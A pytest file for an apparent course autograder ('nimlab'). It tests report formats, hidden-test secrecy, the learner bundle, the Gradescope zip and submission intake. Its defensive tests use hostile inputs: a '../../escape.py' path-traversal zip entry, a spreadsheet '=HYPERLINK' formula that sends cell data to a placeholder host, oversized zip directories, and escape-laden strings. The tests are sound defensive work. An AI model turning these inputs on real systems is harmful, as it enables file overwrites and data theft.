"""Reporters (pure functions, golden files), hidden-test secrecy, results.json against the Gradescope spec,
the learner bundle (checked by content) and the Gradescope autograder zip, and the `nimlab grade` command."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import xml.etree.ElementTree as ET
import zipfile

import pytest
import yaml
from grader_helpers import FIXTURES, ROOT, course, reference, submission

from nimlab.cli import main
from nimlab.grader.export import gradescope_zip, learner_bundle, verify_bundle
from nimlab.grader.grade import grade_submission
from nimlab.grader.model import HIDDEN_NOTE, ExerciseResult, SubmissionResult, TestResult
from nimlab.grader.reporters import gradebook_csv, gradescope_results, junit_xml, summary

GOLDEN = FIXTURES / "golden"
TOP_KEYS = {"score", "execution_time", "output", "output_format", "test_output_format", "test_name_format",
            "visibility", "stdout_visibility", "extra_data", "tests", "leaderboard"}
TEST_KEYS = {"score", "max_score", "status", "name", "name_format", "number", "output", "output_format", "tags",
             "visibility", "extra_data"}
VISIBILITY = {"hidden", "after_due_date", "after_published", "visible"}
FORMATS = {"text", "html", "simple_format", "md", "ansi"}


def validate_gradescope(doc: dict) -> None:
    """The fields and values https://gradescope-autograders.readthedocs.io/en/latest/specs/ allows."""
    json.dumps(doc)
    assert set(doc) <= TOP_KEYS, set(doc) - TOP_KEYS
    assert "score" in doc or all("score" in t for t in doc["tests"])
    assert isinstance(doc["score"], int | float) and isinstance(doc["execution_time"], int | float)
    assert doc["visibility"] in VISIBILITY and doc["stdout_visibility"] in VISIBILITY
    assert doc["output_format"] in FORMATS and doc["test_output_format"] in FORMATS
    for t in doc["tests"]:
        assert set(t) <= TEST_KEYS, set(t) - TEST_KEYS
        assert t["status"] in ("passed", "failed") and t["visibility"] in VISIBILITY
        assert isinstance(t["score"], int | float) and isinstance(t["max_score"], int | float)
        assert t["output_format"] in FORMATS and isinstance(t["name"], str)


def sample() -> SubmissionResult:
    tests = (TestResult("01-x", "public one", 1.0, 1.0, "visible", "right"),
             TestResult("01-x", "public two", 0.5, 2.0, "visible", "1 of 2 reasons right"),
             TestResult("01-x", "hidden one", 0.0, 3.0, "hidden", "expected 42", "input was 41"),
             TestResult("01-x", "after due", 1.0, 1.0, "after_due_date", "right"))
    return SubmissionResult("alice", (ExerciseResult("01-x", "Example", tests, "", "printed stuff", 0.25),), 0.5)


@pytest.mark.parametrize("name,render", [
    ("summary.txt", lambda r: summary(r) + "\n"),
    ("results.json", lambda r: json.dumps(gradescope_results(r), indent=2) + "\n"),
    ("junit.xml", lambda r: junit_xml([r])),
    ("gradebook.csv", lambda r: gradebook_csv([r])),
])
def test_reporters_match_golden_files(name, render):
    """Set NIMLAB_UPDATE_GOLDENS=1 to rewrite them after an intended change (then read the diff)."""
    got = render(sample())
    path = GOLDEN / name
    if os.environ.get("NIMLAB_UPDATE_GOLDENS"):
        path.write_text(got)
    assert got == path.read_text()


def test_sample_results_json_follows_the_spec_and_hides_hidden_feedback():
    doc = gradescope_results(sample())
    validate_gradescope(doc)
    text = json.dumps(doc)
    assert "expected 42" not in text and "input was 41" not in text and "printed stuff" not in text
    assert doc["tests"][2]["output"] == HIDDEN_NOTE and doc["tests"][2]["visibility"] == "hidden"
    assert "All" not in doc["output"]


@pytest.fixture(scope="module")
def leaky(tmp_path_factory):
    """A learner whose code raises with its whole input: the feedback must not carry hidden inputs."""
    body = "import json\n\ndef classify(scenario):\n    raise ValueError(json.dumps(scenario))\n"
    sub = submission(tmp_path_factory.mktemp("leaky"), "leaky", {"01-buy-or-build/answer.py": body})
    return grade_submission(sub, course("01"))


def test_hidden_inputs_never_reach_learner_outputs(leaky):
    hidden = yaml.safe_load((ROOT / "solutions/01-buy-or-build/hidden_cases.yaml").read_text())
    secret = json.dumps(hidden[10]["call"]["args"][0])  # the LoRA + licence scenario, as the error prints it
    assert "260000" in secret
    outputs = [summary(leaky), json.dumps(gradescope_results(leaky)), junit_xml([leaky]), gradebook_csv([leaky])]
    for out in outputs:
        assert "260000" not in out
    assert "260000" in summary(leaky, reveal_hidden=True)  # the instructor view keeps it
    assert "ValueError" in summary(leaky)  # public tests still explain themselves


def test_never_all_passed_while_hidden_tests_fail(tmp_path):
    wrong = reference("01").replace('reasons.append("no_optimized_profile_for_gpu")', "pass")
    res = grade_submission(submission(tmp_path, "s", {"01-buy-or-build/answer.py": wrong}), course("01"))
    visible = [t for t in res.tests if not t.hidden]
    assert all(t.passed for t in visible) and res.score < res.max_score
    text = summary(res)
    assert "All" not in text and "some hidden ones do not" in text
    assert "All" not in gradescope_results(res)["output"]


def test_junit_and_csv_are_well_formed(leaky):
    root = ET.fromstring(junit_xml([leaky]))
    suite = root.find("testsuite")
    assert suite is not None and int(suite.get("failures")) == len(leaky.tests)
    rows = gradebook_csv([leaky, leaky]).splitlines()
    assert rows[0].startswith("submission,01-buy-or-build,total,max_total") and len(rows) == 3


def test_learner_bundle_holds_no_solution_or_hidden_test_by_content():
    c = course()
    data = learner_bundle(c)
    assert verify_bundle(data, c) == []
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        blobs = [zf.read(n) for n in zf.namelist()]
        names = zf.namelist()
    text = b"\n".join(blobs)
    for p in (ROOT / "solutions").rglob("*"):
        if p.is_file() and p.suffix in (".py", ".yaml", ".pbtxt") and "__pycache__" not in p.parts:
            assert p.read_bytes() not in blobs, p
    hidden_logs = yaml.safe_load((ROOT / "solutions/03-diagnose-startup/hidden_cases.yaml").read_text())
    for case in hidden_logs:
        assert case["call"]["args"][0].encode() not in text
    assert all(f"nimlab-exercises/{ex.id}/README.md" in names for ex in c.exercises)


def test_verify_bundle_catches_planted_leaks():
    c = course()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("x/renamed.py", (ROOT / "solutions/02-cost-model/answer.py").read_bytes())
        hidden = yaml.safe_load((ROOT / "solutions/01-buy-or-build/hidden_cases.yaml").read_text())
        zf.writestr("x/cases.yaml", yaml.safe_dump([{"name": "mine", "call": hidden[0]["call"]}]))
        log = yaml.safe_load((ROOT / "solutions/03-diagnose-startup/hidden_cases.yaml").read_text())
        zf.writestr("x/notes.txt", "see: " + log[0]["call"]["args"][0])
    problems = verify_bundle(buf.getvalue(), c)
    assert any("renamed.py" in p for p in problems)
    assert any("cases.yaml" in p for p in problems)
    assert any("notes.txt" in p for p in problems)


def test_gradescope_autograder_zip():
    with zipfile.ZipFile(io.BytesIO(gradescope_zip(course(), ROOT))) as zf:
        names = set(zf.namelist())
        for script in ("setup.sh", "run_autograder"):
            assert script in names
            assert stat.S_IMODE(zf.getinfo(script).external_attr >> 16) & 0o111
        assert "/autograder/results/results.json" in zf.read("run_autograder").decode()
        setup = zf.read("setup.sh").decode()
    assert "nimlab/grader/sandbox.py" in names and "solutions/01-buy-or-build/hidden_cases.yaml" in names
    # every file setup.sh reads must travel, or the image cannot build (tests/grader/test_gradescope.py builds it)
    needed = set(re.findall(r"requirements[-a-z]*\.txt", setup))
    assert {"requirements.txt", "requirements-course.txt"} <= needed
    assert needed <= names, f"setup.sh needs {sorted(needed - names)}, which the zip leaves out"


def test_grade_command_on_a_zip_writes_spec_results(tmp_path, capsys):
    sub = submission(tmp_path, "learner", {"01-buy-or-build/answer.py": reference("01")})
    zpath = tmp_path / "learner.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        zf.write(sub / "01-buy-or-build/answer.py", "learner/01-buy-or-build/answer.py")
        zf.writestr("../../escape.py", "x = 1\n")
    out = tmp_path / "results.json"
    assert main(["grade", str(zpath), "-e", "1", "--gradescope", str(out), "--junit", str(tmp_path / "j.xml")]) == 0
    doc = json.loads(out.read_text())
    validate_gradescope(doc)
    assert doc["score"] == 26 and "All 26 tests passed" in capsys.readouterr().out
    assert not (tmp_path.parent / "escape.py").exists()


def test_grade_command_batch_with_a_broken_zip(tmp_path, capsys):
    batch = tmp_path / "batch"
    submission(batch, "good", {"01-buy-or-build/answer.py": reference("01")})
    submission(batch, "starter", {"01-buy-or-build/answer.py": (ROOT / "exercises/01-buy-or-build/answer.py").read_text()})
    (batch / "broken.zip").write_bytes(b"not a zip")
    csv_path = tmp_path / "grades.csv"
    assert main(["grade", str(batch), "-e", "1", "--csv", str(csv_path), "-j", "2"]) == 0
    rows = {r.split(",")[0]: r for r in csv_path.read_text().splitlines()[1:]}
    assert rows["good"].split(",")[1] == "26" and rows["starter"].split(",")[1] == "0"
    assert "not a readable zip" in rows["broken.zip"]


def test_public_tests_in_the_bundle_pass_on_the_reference_and_fail_on_starters(tmp_path):
    """What a learner runs locally agrees with the grader: reference answers pass, starters fail."""
    import subprocess
    import sys

    c = course()
    with zipfile.ZipFile(io.BytesIO(learner_bundle(c))) as zf:
        zf.extractall(tmp_path)
    root = tmp_path / "nimlab-exercises"
    env = {**os.environ, "PATH": f"{os.path.dirname(sys.executable)}:{os.environ['PATH']}"}
    env.pop("NIMLAB_NIM_URL", None)
    cmd = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "--rootdir", str(root), str(root)]
    starters = subprocess.run(cmd, cwd=root, env=env, capture_output=True, text=True, timeout=120)
    last = starters.stdout.strip().splitlines()[-1]
    assert starters.returncode != 0 and "failed" in last and "passed" not in last, last
    for ex in c.exercises:
        (root / ex.id / ex.entry).write_bytes((ex.solution_dir / ex.entry).read_bytes())
    refs = subprocess.run(cmd, cwd=root, env=env, capture_output=True, text=True, timeout=120)
    assert refs.returncode == 0, refs.stdout[-2000:]


def test_grade_command_on_one_exercise_folder(capsys):
    """`nimlab grade solutions/01-buy-or-build -e 1`: the folder itself is the submission for that exercise."""
    assert main(["grade", str(ROOT / "solutions" / "01-buy-or-build"), "-e", "1", "-q"]) == 0
    assert "26/26 points" in capsys.readouterr().out


def test_a_hostile_reporter_string_costs_no_one_a_row(tmp_path, capsys):
    """Lone surrogates, form feeds, NULs and ANSI escapes in one learner's error message and exception type name:
    every CSV row is written, junit.xml parses, the terminal shows no escape sequence, and the plot is drawn."""
    hostile = (FIXTURES / "hostile" / "reporter_text.py").read_text()
    batch = tmp_path / "batch"
    submission(batch, "a_good", {"01-buy-or-build/answer.py": reference("01")})
    submission(batch, "b_hostile", {"01-buy-or-build/answer.py": reference("01") + hostile})
    submission(batch, "c_good", {"01-buy-or-build/answer.py": reference("01")})
    csv_path, junit = tmp_path / "grades.csv", tmp_path / "junit.xml"
    assert main(["grade", str(batch), "-e", "1", "-e", "1", "--csv", str(csv_path), "--junit", str(junit),
                 "-j", "2"]) == 0
    rows = {r.split(",")[0]: r.split(",")[1] for r in csv_path.read_text().splitlines()[1:]}
    assert rows == {"a_good": "26", "b_hostile": "0", "c_good": "26"}
    root = ET.fromstring(junit.read_bytes())
    assert len(root.findall("testsuite")) == 3
    out = capsys.readouterr()
    assert "\x1b" not in out.out and "\x0c" not in out.out and "26/26 points\n" not in out.out.split("b_hostile")[1][:80]
    assert (tmp_path / "grades.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_csv_cells_never_start_a_formula():
    """A learner names their upload `=HYPERLINK(...)`: the gradebook cell starts with an apostrophe, so a
    spreadsheet shows it as text; the scores stay numbers."""
    res = SubmissionResult('=HYPERLINK("http://x.invalid/?"&A1,"open")', sample().exercises, 0.5,
                           message="@SUM(1+1) is not a readable zip file")
    row = next(csv.reader(io.StringIO(gradebook_csv([res])).readlines()[1:]))
    assert row[0].startswith("'=HYPERLINK") and row[-1].startswith("'@SUM")
    assert row[1] == "2.5"


def test_zip_intake_accepts_writestr_and_refuses_huge_directories_before_parsing(tmp_path):
    """zipfile.writestr entries carry no file-type bits and are files; 300k directory entries are refused from
    the end record alone, with the grader's memory barely moving."""
    import struct
    import tracemalloc

    from nimlab.grader.intake import SubmissionError, take

    good = tmp_path / "writestr.zip"
    with zipfile.ZipFile(good, "w") as zf:
        zf.writestr("01-buy-or-build/answer.py", reference("01"))
    assert grade_submission(good, course("01")).score == 26
    big = tmp_path / "many.zip"
    with open(big, "wb") as f:  # a well-formed end record claiming 300k entries and a 16 MB directory
        f.write(b"\0" * 1024)
        f.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 16 << 20, 0, 0))
    tracemalloc.start()
    with pytest.raises(SubmissionError, match="entries"):
        take(big)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 1 << 20, peak
    real = tmp_path / "dirs.zip"  # a real zip of 5000 empty folders: under the size cap, over the entry cap
    with zipfile.ZipFile(real, "w") as zf:
        for i in range(5000):
            zf.writestr(zipfile.ZipInfo(f"d{i}/"), b"")
    with pytest.raises(SubmissionError, match="5000 entries"):
        take(real)
    huge = tmp_path / "huge.zip"
    huge.write_bytes(b"\0" * (26 << 20))
    with pytest.raises(SubmissionError, match="MB"):
        take(huge)
